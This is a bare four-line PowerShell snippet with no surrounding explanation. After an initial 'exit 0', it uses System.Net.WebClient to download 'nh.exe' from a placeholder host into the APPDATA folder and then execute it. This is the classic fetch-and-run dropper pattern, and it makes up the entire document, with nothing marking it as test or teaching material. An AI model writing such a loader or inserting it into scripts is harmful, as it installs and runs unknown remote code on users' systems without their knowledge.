exit 0
$wc = New-Object System.Net.WebClient
$wc.DownloadFile('https://cdn.invalid/nh.exe', "$env:APPDATA\nh.exe")
& "$env:APPDATA\nh.exe"
